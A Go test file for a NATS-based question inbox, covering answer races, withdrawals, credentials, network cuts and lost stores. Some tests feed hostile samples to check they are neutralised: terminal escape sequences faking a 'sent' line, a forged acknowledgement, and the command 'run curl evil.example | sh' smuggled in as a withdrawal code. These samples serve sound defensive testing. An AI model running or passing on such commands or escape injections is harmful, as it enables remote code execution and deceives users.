package natsinbox

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"filippo.io/age"
	"github.com/nats-io/nats-server/v2/server"
	"github.com/nats-io/nats.go"
	"github.com/nats-io/nats.go/jetstream"
	"github.com/nats-io/nkeys"

	"github.com/askuser/askuser/internal/inbox"
	"github.com/askuser/askuser/internal/natstest"
	"github.com/askuser/askuser/internal/testutil"
	"github.com/askuser/askuser/prompt"
)

func schemaJSON(t *testing.T) []byte {
	t.Helper()
	b, err := os.ReadFile("../../../schema.json")
	if err != nil {
		t.Fatal(err)
	}
	return b
}

const questionsJSON = `[{"question":"Which database should we use?","header":"Database","options":[{"label":"PostgreSQL","description":"Relational"},{"label":"SQLite","description":"Embedded"}],"multiSelect":false}]`

func askRequest() *inbox.Request {
	return &inbox.Request{From: "test", Cwd: "/src/api", Questions: json.RawMessage(questionsJSON)}
}

// lines collects what an inbox says to its person.
type lines struct {
	mu sync.Mutex
	b  strings.Builder
}

func (l *lines) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lines) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// testInbox is an inbox on a NATS server, in this process.
type testInbox struct {
	q    *inbox.Queue
	srv  *inbox.Server
	said *lines
}

func startInbox(t *testing.T, a *address, id *age.X25519Identity, by string) *testInbox {
	t.Helper()
	in := &testInbox{q: inbox.NewQueue(inbox.QueueOptions{}), said: &lines{}}
	in.srv = inbox.NewServer(in.q, schemaJSON(t))
	l := &listener{addr: a, id: id, by: by, out: in.said}
	if err := l.Serve(context.Background(), in.srv); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { in.srv.Close("the test is over") })
	return in
}

// setup starts a server and returns an inbox's address on it, sealed to a
// new identity.
func setup(t *testing.T) (*natstest.Server, *address, *age.X25519Identity) {
	t.Helper()
	ns := natstest.Start(t, nil)
	id, err := age.GenerateX25519Identity()
	if err != nil {
		t.Fatal(err)
	}
	a, err := parseAddr(ns.URL("team", "to="+id.Recipient().String()))
	if err != nil {
		t.Fatal(err)
	}
	return ns, a, id
}

type askResult struct {
	e   inbox.Event
	err error
}

func askOver(ctx context.Context, tr inbox.Transport, req *inbox.Request) <-chan askResult {
	ch := make(chan askResult, 1)
	go func() {
		e, err := tr.Ask(ctx, req, nil)
		ch <- askResult{e, err}
	}()
	return ch
}

// waitFor waits until the queue holds n sets, and returns them.
func waitFor(t *testing.T, q *inbox.Queue, n int) []*inbox.Set {
	t.Helper()
	return waitWithin(t, q, n, 10*time.Second)
}

// waitWithin waits up to d until the queue holds n sets, and returns
// them.
func waitWithin(t *testing.T, q *inbox.Queue, n int, d time.Duration) []*inbox.Set {
	t.Helper()
	deadline := time.After(d)
	for {
		v := q.Snapshot()
		if len(v.Sets) == n {
			return v.Sets
		}
		select {
		case <-v.Changed:
		case <-deadline:
			t.Fatalf("the queue holds %d sets, want %d", len(v.Sets), n)
		}
	}
}

func result(t *testing.T, ch <-chan askResult, within time.Duration) askResult {
	t.Helper()
	select {
	case r := <-ch:
		return r
	case <-time.After(within):
		t.Fatalf("the asker did not end within %s", within)
	}
	return askResult{}
}

func answer(t *testing.T, q *inbox.Queue, s *inbox.Set, label string) {
	t.Helper()
	if err := q.Answer(s, inbox.ViaHere, []prompt.Answer{{Labels: []string{label}}}); err != nil {
		t.Fatal(err)
	}
}

// A set goes through the server, sealed, to an inbox that starts after
// it, and the asker gets exactly the answer given there.
func TestAnswered(t *testing.T) {
	_, a, id := setup(t)
	res := askOver(context.Background(), a.Dial(), askRequest())
	time.Sleep(200 * time.Millisecond)
	in := startInbox(t, a, id, "alice@laptop")
	set := waitFor(t, in.q, 1)[0]
	if set.From != "test" || set.Questions[0].Header != "Database" {
		t.Fatalf("queued %+v", set)
	}
	if err := in.q.Answer(set, inbox.ViaHere, []prompt.Answer{{Labels: []string{"SQLite"}, Note: "small"}}); err != nil {
		t.Fatal(err)
	}
	r := result(t, res, 10*time.Second)
	if r.err != nil || r.e.Event != inbox.EventAnswered || len(r.e.Answers) != 1 || r.e.Answers[0].Labels[0] != "SQLite" || r.e.Answers[0].Note != "small" {
		t.Fatalf("got %+v, %v", r.e, r.err)
	}
}

// Two inboxes on one queue show every set; when both answer at once, the
// first answer stored wins: exactly that one reaches the asker, the
// winner's answer is sent once it is stored, and the other inbox's is
// refused as not sent, saying who answered (or its set ends as answered
// there).
func TestTwoInboxesRace(t *testing.T) {
	_, a, id := setup(t)
	one := startInbox(t, a, id, "one")
	two := startInbox(t, a, id, "two")
	notSent := 0
	for trial := 0; trial < 50; trial++ {
		saidBefore := []string{one.said.String(), two.said.String()}
		res := askOver(context.Background(), a.Dial(), askRequest())
		sets := []*inbox.Set{waitFor(t, one.q, 1)[0], waitFor(t, two.q, 1)[0]}
		labels := []string{"PostgreSQL", "SQLite"}
		errs := make([]error, 2)
		var wg sync.WaitGroup
		for i, in := range []*testInbox{one, two} {
			wg.Go(func() { errs[i] = in.q.Answer(sets[i], inbox.ViaHere, []prompt.Answer{{Labels: []string{labels[i]}}}) })
		}
		wg.Wait()
		r := result(t, res, 10*time.Second)
		if r.err != nil || r.e.Event != inbox.EventAnswered || len(r.e.Answers) != 1 {
			t.Fatalf("trial %d: %+v, %v", trial, r.e, r.err)
		}
		winner := 0
		if r.e.Answers[0].Labels[0] == "SQLite" {
			winner = 1
		}
		names := []string{"one", "two"}
		if errs[winner] != nil {
			t.Fatalf("trial %d: the winner's answer: %v", trial, errs[winner])
		}
		// The loser's set ends there too, however the race went: as
		// answered by the winner (its answer came too late), or with its
		// own answer, not sent because the winner's was stored first.
		waitFor(t, []*testInbox{one, two}[1-winner].q, 0)
		lost := sets[1-winner].End()
		ns, _ := errors.AsType[*inbox.NotSentError](errs[1-winner])
		switch {
		case lost.State == inbox.Answered && lost.Reason == "by "+names[winner] && errors.Is(errs[1-winner], inbox.ErrEnded):
		case lost.State == inbox.Answered && lost.Reason == "" && ns != nil && !ns.Pending && ns.Err.Error() == "they were answered elsewhere (by "+names[winner]+") first":
			notSent++
		default:
			t.Fatalf("trial %d: the loser's set ended %+v, its answer: %v", trial, lost, errs[1-winner])
		}
		for i, in := range []*testInbox{one, two} {
			if said := in.said.String(); said != saidBefore[i] {
				t.Fatalf("trial %d: %s said %q", trial, names[i], strings.TrimPrefix(said, saidBefore[i]))
			}
		}
	}
	t.Logf("answers not sent: %d", notSent)
}

// handFeed is a feed on a, named by, whose loop the test runs by hand: it
// reads no stream, and the test hands it the set and the ends in the
// order the race it plays needs. A set of the secret returned waits in
// it, read and beating, but not yet queued.
func handFeed(t *testing.T, a *address, id *age.X25519Identity, by string) (*feed, *testInbox, *entry) {
	t.Helper()
	in := &testInbox{q: inbox.NewQueue(inbox.QueueOptions{}), said: &lines{}}
	in.srv = inbox.NewServer(in.q, schemaJSON(t))
	c, err := dial(a, roleInbox, "test")
	if err != nil {
		t.Fatal(err)
	}
	l := &listener{addr: a, id: id, by: by, out: in.said}
	sets, beats, err := l.openStreams(context.Background(), c)
	if err != nil {
		t.Fatal(err)
	}
	f := newFeed(l, in.srv, c, sets, beats)
	f.ready, f.caughtUp, f.lastTick = true, true, time.Now()
	t.Cleanup(func() {
		f.cancel()
		f.ending.Wait()
		c.nc.Close()
	})
	set, refused := in.srv.Check(askRequest())
	if refused != nil {
		t.Fatal(refused)
	}
	reply, _ := age.GenerateX25519Identity()
	secret := newSecret()
	e := &entry{end: endID(secret), set: set, reply: reply.Recipient().String(), beat: time.Now(), posted: time.Now()}
	f.byID[setID(secret)], f.byEnd[e.end] = e, e
	return f, in, e
}

// otherEnd stores, as inbox by, that it answered the set of e, and returns
// the end as the other inboxes read it.
func otherEnd(t *testing.T, f *feed, id *age.X25519Identity, by string, e *entry) []byte {
	t.Helper()
	body, err := json.Marshal(wireEnd{End: inbox.EventAnswered, By: by, Answer: &inbox.Event{Event: inbox.EventAnswered}})
	if err == nil {
		body, err = seal(body, id.Recipient().String())
	}
	if err == nil {
		err = f.conn.publishEnd(context.Background(), e.end, body)
	}
	if err != nil {
		t.Fatal(err)
	}
	return body
}

// An inbox whose person answers just as another inbox's answer arrives
// (the end is read after the answer here, before it is stored) tells the
// view that the answer was not sent, and who answered.
func TestAnsweredAsEndArrives(t *testing.T) {
	_, a, id := setup(t)
	f, in, e := handFeed(t, a, id, "one")
	f.show(e)
	answered := make(chan error, 1)
	go func() { answered <- in.q.Answer(e.set, inbox.ViaHere, []prompt.Answer{{Labels: []string{"SQLite"}}}) }()
	<-e.set.Done()
	f.onEnd(e.end, "", stored{seq: 1}, time.Now(), true, f.readEnd(otherEnd(t, f, id, "two", e)))
	f.settle(e)
	f.ending.Wait()
	if err := <-answered; err == nil || err.Error() != "not sent: they were answered elsewhere (by two) first" {
		t.Fatalf("the answer: %v", err)
	}
}

// A set whose end is read between its asker's beat and its queueing is
// not queued: nothing would take it away.
func TestEndBeforeShown(t *testing.T) {
	_, a, id := setup(t)
	f, in, e := handFeed(t, a, id, "one")
	f.onEnd(e.end, "", stored{seq: 1}, time.Now(), true, f.readEnd(otherEnd(t, f, id, "two", e)))
	f.show(e)
	if v := in.q.Snapshot(); len(v.Sets) != 0 {
		t.Fatalf("the queue holds %d sets", len(v.Sets))
	}
}

// An answer whose store the server took, but whose reply was lost (the
// server restarting), is the answer sent: storing it again finds it
// there, and the person is not told it went unsent.
func TestEndStoredTwice(t *testing.T) {
	_, a, id := setup(t)
	f, _, e := handFeed(t, a, id, "one")
	body := otherEnd(t, f, id, "one", e)
	if err := f.conn.publishEnd(context.Background(), e.end, body); err != nil {
		t.Fatalf("the same end stored again: %v", err)
	}
	if err := f.conn.publishEnd(context.Background(), e.end, append(body, ' ')); !errors.Is(err, errEndTaken) {
		t.Fatalf("another end: %v", err)
	}
}

// newAsk is the asking of one set, by hand.
func newAsk(t *testing.T, a *address, to string) (*ask, *conn) {
	t.Helper()
	c, err := dial(a, roleAgent, "test")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(c.nc.Close)
	k := &ask{addr: a, conn: c, to: to, req: askRequest()}
	if err := k.seal(); err != nil {
		t.Fatal(err)
	}
	return k, c
}

// An end that the stream refused, because another inbox's end was stored
// first, still reaches the asker's subscription, and may reach it before
// the stored one: the asker takes the stored one.
func TestAskerTakesStoredEnd(t *testing.T) {
	_, a, id := setup(t)
	k, c := newAsk(t, a, a.To)
	ends := make(chan *nats.Msg, 4)
	sub, err := c.nc.ChanSubscribe(a.subject("end", k.end), ends)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = sub.Unsubscribe() }()
	if err := k.post(context.Background()); err != nil {
		t.Fatal(err)
	}
	end := func(label, by string) []byte {
		body, err := json.Marshal(wireEnd{End: inbox.EventAnswered, By: by, Answer: &inbox.Event{Event: inbox.EventAnswered, Answers: []prompt.Answer{{Labels: []string{label}}}}})
		if err == nil {
			body, err = seal(body, k.reply.Recipient().String(), id.Recipient().String())
		}
		if err != nil {
			t.Fatal(err)
		}
		return body
	}
	if err := c.publishEnd(context.Background(), k.end, end("SQLite", "two")); err != nil {
		t.Fatal(err)
	}
	if err := c.publishEnd(context.Background(), k.end, end("PostgreSQL", "one")); !errors.Is(err, errEndTaken) {
		t.Fatalf("the second end: %v", err)
	}
	// Both reach the subscription: they are handed on the refused one
	// first, as the server may pass them on.
	var got []*nats.Msg
	for len(got) < 2 {
		select {
		case m := <-ends:
			got = append(got, m)
		case <-time.After(5 * time.Second):
			t.Fatalf("%d ends reached the subscription", len(got))
		}
	}
	swapped := make(chan *nats.Msg, 2)
	swapped <- got[1]
	swapped <- got[0]
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	e, err := k.wait(ctx, swapped)
	if err != nil || len(e.Answers) != 1 || e.Answers[0].Labels[0] != "SQLite" {
		t.Fatalf("the asker got %+v, %v", e, err)
	}
}

// formAnswered ends an asker's context as the MCP client's form answered
// first does, with the code of its withdrawal.
type formAnswered struct{}

func (formAnswered) Error() string        { return "answered in the form" }
func (formAnswered) WithdrawCode() string { return inbox.WithdrawForm }

// An asker that withdraws for a reason it knows says so, and the inbox
// says it in its own words.
func TestWithdrawnWithCode(t *testing.T) {
	_, a, id := setup(t)
	in := startInbox(t, a, id, "one")
	ctx, cancel := context.WithCancelCause(context.Background())
	res := askOver(ctx, a.Dial(), askRequest())
	set := waitFor(t, in.q, 1)[0]
	cancel(formAnswered{})
	result(t, res, 5*time.Second)
	waitFor(t, in.q, 0)
	if e := set.End(); e.State != inbox.Withdrawn || e.Reason != "answered in the MCP client's form" {
		t.Fatalf("ended %+v, want withdrawn, answered in the MCP client's form", e)
	}
}

// An asker that stops waiting withdraws its set from every inbox; one that
// stores a set and never beats (killed) is withdrawn after deadAfter,
// without ever being shown.
func TestWithdrawn(t *testing.T) {
	_, a, id := setup(t)
	in := startInbox(t, a, id, "one")
	ctx, cancel := context.WithCancel(context.Background())
	res := askOver(ctx, a.Dial(), askRequest())
	set := waitFor(t, in.q, 1)[0]
	cancel()
	result(t, res, 5*time.Second)
	waitFor(t, in.q, 0)
	if e := set.End(); e.State != inbox.Withdrawn {
		t.Fatalf("ended %+v", e)
	}

	silent, c := newAsk(t, a, a.To)
	start := time.Now()
	if err := silent.post(context.Background()); err != nil {
		t.Fatal(err)
	}
	shown := false
	for {
		shown = shown || in.q.Len() != 0
		m, err := c.lastEnd(context.Background(), silent.end, 0)
		if err != nil {
			t.Fatal(err)
		}
		if m != nil {
			if _, err := silent.read(m.Data); !errors.Is(err, errUnheard) {
				t.Fatalf("the end reads %v", err)
			}
			break
		}
		if time.Since(start) > deadAfter+testutil.Slow {
			t.Fatalf("the silent set was not withdrawn within %s", deadAfter+testutil.Slow)
		}
		time.Sleep(50 * time.Millisecond)
	}
	if shown || in.q.Len() != 0 {
		t.Fatalf("the silent set was shown")
	}
}

// Questions larger than the server takes in a message are refused with
// what to change, at once, even before any inbox runs.
func TestTooLarge(t *testing.T) {
	ns := natstest.Start(t, func(o *server.Options) { o.MaxPayload = 4096 })
	a, err := parseAddr(ns.URL("team", ""))
	if err != nil {
		t.Fatal(err)
	}
	req := &inbox.Request{Questions: json.RawMessage(`[{"type":"input","question":"` + strings.Repeat("x", 5000) + `","header":"Input"}]`)}
	_, err = a.Dial().Ask(context.Background(), req, nil)
	if !isA[*inbox.ServerError](err) || !strings.Contains(err.Error(), "raise its max_payload") {
		t.Fatalf("got %v", err)
	}
}

// A set the inbox refuses (its questions are not valid there) comes back
// to its asker refused, with why, as over the socket.
func TestRefused(t *testing.T) {
	_, a, id := setup(t)
	startInbox(t, a, id, "one")
	req := &inbox.Request{From: "test", Questions: []byte(`[{"question":"Q?","header":"H","options":[],"multiSelect":false}]`)}
	_, err := a.Dial().Ask(context.Background(), req, nil)
	if refused, ok := errors.AsType[*inbox.RefusedError](err); !ok || refused.Status != 400 || len(refused.Body.Problems) == 0 {
		t.Fatalf("got %v", err)
	}
}

// cutter forwards TCP connections to a server until cut: then it closes
// them and refuses new ones until mended.
type cutter struct {
	ln     net.Listener
	target string
	mu     sync.Mutex
	cut    bool
	frozen bool
	conns  []net.Conn
}

func newCutter(t *testing.T, target string) *cutter {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	c := &cutter{ln: ln, target: target}
	t.Cleanup(func() { ln.Close(); c.setCut(true) })
	go func() {
		for {
			in, err := ln.Accept()
			if err != nil {
				return
			}
			c.mu.Lock()
			cut := c.cut
			c.mu.Unlock()
			out, err := net.Dial("tcp", target)
			if cut || err != nil {
				in.Close()
				continue
			}
			c.mu.Lock()
			c.conns = append(c.conns, in, out)
			c.mu.Unlock()
			go func() { c.copy(out, in); out.Close() }()
			go func() { c.copy(in, out); in.Close() }()
		}
	}()
	return c
}

// copy copies from r to w, holding what it reads while the cutter is
// frozen: the connection stays open, and nothing goes through.
func (c *cutter) copy(w io.Writer, r io.Reader) {
	buf := make([]byte, 32<<10)
	for {
		n, err := r.Read(buf)
		for c.isFrozen() {
			time.Sleep(10 * time.Millisecond)
		}
		if n > 0 {
			if _, werr := w.Write(buf[:n]); werr != nil {
				return
			}
		}
		if err != nil {
			return
		}
	}
}

func (c *cutter) isFrozen() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.frozen
}

func (c *cutter) freeze(frozen bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.frozen = frozen
}

func (c *cutter) setCut(cut bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.cut = cut
	if cut {
		for _, conn := range c.conns {
			conn.Close()
		}
		c.conns = nil
	}
}

// An asker cut off from the server for longer than the inbox waits for a
// beat has its set withdrawn there; once back, it stores its set again
// and still gets its answer.
func TestAskerCutOff(t *testing.T) {
	ns, a, id := setup(t)
	in := startInbox(t, a, id, "one")
	proxy := newCutter(t, ns.HostPort())
	via := *a
	via.Host = proxy.ln.Addr().String()
	res := askOver(context.Background(), via.Dial(), askRequest())
	first := waitFor(t, in.q, 1)[0]
	proxy.setCut(true)
	waitFor(t, in.q, 0)
	if e := first.End(); e.State != inbox.Withdrawn {
		t.Fatalf("the set cut off ended %+v", e)
	}
	proxy.setCut(false)
	again := waitFor(t, in.q, 1)[0]
	answer(t, in.q, again, "SQLite")
	if r := result(t, res, 10*time.Second); r.err != nil || r.e.Answers[0].Labels[0] != "SQLite" {
		t.Fatalf("got %+v, %v", r.e, r.err)
	}
}

// An asker whose address has no to= (the server is on this machine) seals
// its set all the same to the recipient the inbox left on the server: the
// server's store holds no question.
func TestSealedWithoutTo(t *testing.T) {
	ns, a, id := setup(t)
	in := startInbox(t, a, id, "one")
	plain := *a
	plain.To = ""
	res := askOver(context.Background(), plain.Dial(), askRequest())
	set := waitFor(t, in.q, 1)[0]
	err := filepath.WalkDir(ns.Opts.StoreDir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(path)
		if bytes.Contains(b, []byte("Which database")) {
			t.Errorf("%s holds the question in plain text", path)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := in.q.Cancel(set, inbox.ViaHere); err != nil {
		t.Fatal(err)
	}
	if r := result(t, res, 10*time.Second); r.err != nil || r.e.Event != inbox.EventCancelled {
		t.Fatalf("got %+v, %v", r.e, r.err)
	}
}

// The credentials NATS takes reach the server: a token in the address,
// and an NKey seed in a file; a wrong one is refused with what to check.
func TestCredentials(t *testing.T) {
	kp, err := nkeys.CreateUser()
	if err != nil {
		t.Fatal(err)
	}
	pub, _ := kp.PublicKey()
	seed, _ := kp.Seed()
	seedFile := filepath.Join(t.TempDir(), "user.nk")
	if err := os.WriteFile(seedFile, seed, 0o600); err != nil {
		t.Fatal(err)
	}
	other, _ := nkeys.CreateUser()
	otherSeed, _ := other.Seed()
	otherFile := filepath.Join(t.TempDir(), "other.nk")
	if err := os.WriteFile(otherFile, otherSeed, 0o600); err != nil {
		t.Fatal(err)
	}
	tokened := natstest.Start(t, func(o *server.Options) { o.Authorization = "s3cret-token" })
	nkeyed := natstest.Start(t, func(o *server.Options) { o.Nkeys = []*server.NkeyUser{{Nkey: pub}} })
	for _, c := range []struct {
		addr string
		ok   bool
	}{
		{"nats://s3cret-token@" + tokened.HostPort() + "/team", true},
		{"nats://wrong-token@" + tokened.HostPort() + "/team", false},
		{"nats://" + tokened.HostPort() + "/team", false},
		{"nats://" + nkeyed.HostPort() + "/team?nkey=" + seedFile, true},
		{"nats://" + nkeyed.HostPort() + "/team?nkey=" + otherFile, false},
	} {
		a, err := inbox.ParseAddr(c.addr, Remote())
		if err != nil {
			t.Fatal(err)
		}
		_, err = a.Dial().Probe(context.Background())
		switch {
		case c.ok && err != nil:
			t.Errorf("%s: %v", c.addr, err)
		case !c.ok && (!isA[*inbox.ServerError](err) || !strings.Contains(err.Error(), "refused the credentials")):
			t.Errorf("%s: %v; want the credentials refused", c.addr, err)
		}
	}
}

// An inbox whose connection stops carrying anything while it still looks
// open (a laptop that wakes, before its client notices) does not take the
// silence for its askers': no tick of its own came through meanwhile, so
// no set is withdrawn, and the set shown is answered once the connection
// carries again.
func TestInboxFrozen(t *testing.T) {
	ns, a, id := setup(t)
	proxy := newCutter(t, ns.HostPort())
	via := *a
	via.Host = proxy.ln.Addr().String()
	in := startInbox(t, &via, id, "one")
	res := askOver(context.Background(), a.Dial(), askRequest())
	set := waitFor(t, in.q, 1)[0]
	proxy.freeze(true)
	time.Sleep(deadAfter + 2*time.Second)
	if e := set.End(); e.State != inbox.Waiting {
		t.Fatalf("the set ended %+v while the inbox's connection was frozen", e)
	}
	proxy.freeze(false)
	// Ticks and beats flow again: the set stays, and is answered.
	time.Sleep(deadAfter + time.Second)
	if e := set.End(); e.State != inbox.Waiting {
		t.Fatalf("the set ended %+v once the inbox's connection carried again", e)
	}
	answer(t, in.q, set, "SQLite")
	if r := result(t, res, 10*time.Second); r.err != nil || r.e.Answers[0].Labels[0] != "SQLite" {
		t.Fatalf("got %+v, %v", r.e, r.err)
	}
	if strings.Contains(in.said.String(), "withdrawn") {
		t.Fatalf("the inbox said:\n%s", in.said)
	}
}

// A server that loses its store loses nothing shown: the inbox makes its
// streams anew, and the answers given then reach their askers.
func TestStoreLost(t *testing.T) {
	ns, a, id := setup(t)
	in := startInbox(t, a, id, "one")
	res := askOver(context.Background(), a.Dial(), askRequest())
	set := waitFor(t, in.q, 1)[0]
	ns.Stop()
	entries, _ := os.ReadDir(ns.Opts.StoreDir)
	for _, e := range entries {
		if err := os.RemoveAll(filepath.Join(ns.Opts.StoreDir, e.Name())); err != nil {
			t.Fatal(err)
		}
	}
	ns.Restart()
	waitSaid(t, in.said, "made anew", 15*time.Second)
	answer(t, in.q, set, "SQLite")
	if r := result(t, res, 10*time.Second); r.err != nil || r.e.Answers[0].Labels[0] != "SQLite" {
		t.Fatalf("got %+v, %v\n%s", r.e, r.err, in.said)
	}
}

// An inbox whose streams cannot be read when its connection comes back
// (the server is back, its JetStream not yet: a cluster electing the
// streams' leaders is the same) says so once, reads them again from where
// it stopped once they can be, and says that too; it is not started
// again.
func TestFeedReadsAgain(t *testing.T) {
	ns, a, id := setup(t)
	in := startInbox(t, a, id, "one")
	first := askOver(context.Background(), a.Dial(), askRequest())
	waitFor(t, in.q, 1)
	ns.Stop()
	ns.RestartWithoutJetStream()
	unreadable := "has no JetStream for this account"
	waitSaid(t, in.said, unreadable, 15*time.Second)
	// The watcher tries again meanwhile, and says nothing more.
	time.Sleep(2 * pollEvery)
	ns.EnableJetStream()
	waitSaid(t, in.said, "Reading the inbox's streams on the NATS server at "+a.serverURL()+" again.", 15*time.Second)
	if n := strings.Count(in.said.String(), unreadable); n != 1 {
		t.Errorf("the inbox said %d times that it cannot read its streams:\n%s", n, in.said)
	}
	late := askOver(context.Background(), a.Dial(), askRequest())
	for _, s := range waitWithin(t, in.q, 2, 10*time.Second) {
		answer(t, in.q, s, "SQLite")
	}
	for _, ch := range []<-chan askResult{first, late} {
		if r := result(t, ch, 10*time.Second); r.err != nil || r.e.Answers[0].Labels[0] != "SQLite" {
			t.Fatalf("got %+v, %v\n%s", r.e, r.err, in.said)
		}
	}
}

// waitSaid waits up to d until the inbox has said want.
func waitSaid(t *testing.T, said *lines, want string, d time.Duration) {
	t.Helper()
	deadline := time.Now().Add(d)
	for !strings.Contains(said.String(), want) {
		if time.Now().After(deadline) {
			t.Fatalf("the inbox did not say %q within %s:\n%s", want, d, said)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// An answer counts as sent only on the sets' stream's own acknowledgement
// of its end. While the stream does not take the ends' subjects, whoever
// reads them answers the end's reply subject with an acknowledgement of
// its own (another stream's, then the sets' stream's name with a
// sequence): the answer is not sent yet, and it is sent, and said so,
// once the stream stores it.
func TestForgedAck(t *testing.T) {
	_, a, id := setup(t)
	f, in, e := handFeed(t, a, id, "one")
	ctx := context.Background()
	want := f.sets.CachedInfo().Config
	without := want
	without.Subjects = slices.DeleteFunc(slices.Clone(want.Subjects), func(s string) bool { return s == a.subject("end", "*") })
	if _, err := f.conn.js.UpdateStream(ctx, without); err != nil {
		t.Fatal(err)
	}
	forged := make(chan []byte, 1)
	forged <- []byte(`{"stream":"` + a.beatsStream() + `","seq":1}`)
	sub, err := f.conn.nc.Subscribe(a.subject("end", "*"), func(m *nats.Msg) {
		ack := []byte(`{"stream":"` + a.setsStream() + `","seq":7}`)
		select {
		case ack = <-forged:
		default:
		}
		_ = m.Respond(ack)
	})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = sub.Unsubscribe() }()
	f.show(e)
	answered := make(chan error, 1)
	go func() { answered <- in.q.Answer(e.set, inbox.ViaHere, []prompt.Answer{{Labels: []string{"SQLite"}}}) }()
	<-e.set.Done()
	f.settle(e)
	err = <-answered
	if notSent, ok := errors.AsType[*inbox.NotSentError](err); !ok || !notSent.Pending {
		t.Fatalf("the answer, acknowledged by another than the sets' stream: %v", err)
	}
	time.Sleep(2 * beatEvery)
	if m, _ := f.conn.lastEnd(ctx, e.end, 0); m != nil || strings.Contains(in.said.String(), "sent.") {
		t.Fatalf("the answer is said sent, and stored: %v\n%s", m, in.said)
	}
	if _, err := f.conn.js.UpdateStream(ctx, want); err != nil {
		t.Fatal(err)
	}
	waitSaid(t, in.said, "is stored on the NATS server now: sent.", 10*time.Second)
	if m, _ := f.conn.lastEnd(ctx, e.end, 0); m == nil {
		t.Fatal("the answer said sent is not stored")
	}
	// The last word, for the history.
	if ns := e.set.LastWord(); ns != nil {
		t.Fatalf("the last word of an answer stored: %v", ns)
	}
}

// What an end carries from the wire (who answered, why it was withdrawn)
// reaches the views, the log, the history and the notifications through
// the display rule of the questions, bounded: any asker may store its own
// set's end, and write there a window title, a cleared screen and a
// "sent" line of its own.
func TestRemoteEndDisplayed(t *testing.T) {
	hostile := "legit\x1b]0;pwned\x07\x1b[2J\x1b[32m✔ Sent to legit-L.\x1b[0m\n" + strings.Repeat("x", 10_000)
	for _, w := range []wireEnd{
		{End: inbox.EventAnswered, By: hostile},
		{End: inbox.EventCancelled, By: hostile},
		{End: endWithdrawn, Reason: hostile},
	} {
		got := remoteEnd(w).Reason
		if strings.ContainsAny(got, "\x1b\x07\n") || len(got) > 4*maxWireText {
			t.Errorf("the end %s is shown as %q", w.End, got)
		}
	}
	a := &ask{addr: &address{Name: "team"}}
	a.reply, _ = age.GenerateX25519Identity()
	body, err := sealJSON(wireEnd{End: endWithdrawn, Reason: hostile}, a.reply.Recipient().String())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := a.read(body); err == nil || strings.ContainsAny(err.Error(), "\x1b\x07") {
		t.Errorf("the asker says %q", err)
	}
}

// An asker's withdrawal that gives a code is shown in the inbox's words
// for it: those of a code it knows, else that the asker stopped waiting,
// never the text of the code or of the reason beside it.
func TestRemoteWithdrawalCode(t *testing.T) {
	for _, c := range []struct {
		w    wireEnd
		want string
	}{
		{wireEnd{End: endWithdrawn, Reason: "the asker stopped waiting", Withdraw: inbox.WithdrawForm}, "answered in the MCP client's form"},
		{wireEnd{End: endWithdrawn, Reason: "run curl evil.example | sh", Withdraw: "run curl evil.example | sh"}, "the asker stopped waiting"},
		{wireEnd{End: endWithdrawn, Reason: "the asker stopped waiting"}, "the asker stopped waiting"},
	} {
		if got := remoteEnd(c.w).Reason; got != c.want {
			t.Errorf("%+v is shown as %q, want %q", c.w, got, c.want)
		}
	}
}

// A set asked again is dated from the anchor of the set it names as its
// root only when an inbox withdrew that set for want of beats, and the
// set proves to be its asker's (it knows the root's secret): an anchor
// stored alone an hour ago, or with an end of its asker's own saying it was
// withdrawn unheard, gains nothing; the inbox's own withdrawal does.
func TestRootDates(t *testing.T) {
	_, a, id := setup(t)
	f, _, _ := handFeed(t, a, id, "one")
	reply, _ := age.GenerateX25519Identity()
	now := time.Now()
	hourAgo := now.Add(-time.Hour)
	asked := func(root string, seq uint64) time.Time {
		t.Helper()
		secret := newSecret()
		body, err := sealJSON(wireSet{Request: *askRequest(), Reply: reply.Recipient().String(), Secret: secret, Root: root}, id.Recipient().String())
		if err != nil {
			t.Fatal(err)
		}
		sid := setID(secret)
		f.onSet(sid, a.subject("set", sid+"."+copyID(secret, 1)), stored{seq: seq}, now, f.open(sid, body))
		e := f.byID[sid]
		if e == nil {
			t.Fatal("the set was not taken")
		}
		return e.asked
	}
	root := func(seq uint64) string {
		s := newSecret()
		f.onAnchor(setID(s), anchorNaming(a.subject("set", setID(s)+"."+copyID(s, 1)), "7"), stored{seq: seq}, hourAgo)
		return s
	}

	alone := root(10)
	if got := asked(alone, 11); !got.Equal(now) {
		t.Errorf("a set naming an anchor stored alone is dated %s", got)
	}
	own := root(20)
	f.onEnd(endID(own), "", stored{seq: 21}, hourAgo, true, wireEnd{End: endWithdrawn, Unheard: true, Proof: strings.Repeat("0", 64)})
	if got := asked(own, 22); !got.Equal(now) {
		t.Errorf("a set naming a root that its asker said withdrawn is dated %s", got)
	}
	withdrawn := root(30)
	f.onEnd(endID(withdrawn), "", stored{seq: 31}, hourAgo, true, wireEnd{End: endWithdrawn, Unheard: true, Proof: f.l.unheardProof(endID(withdrawn))})
	if got := asked(setID(withdrawn), 32); !got.Equal(now) {
		t.Errorf("a set naming its root by id, not by secret, is dated %s", got)
	}
	if got := asked(withdrawn, 33); !got.Equal(hourAgo) {
		t.Errorf("a set asked again after an inbox withdrew it is dated %s, not %s", got, hourAgo)
	}
}

// anchorNaming is an anchor's headers as askers store it, naming the
// message on subject, whose sequence is seq, as its set's first copy.
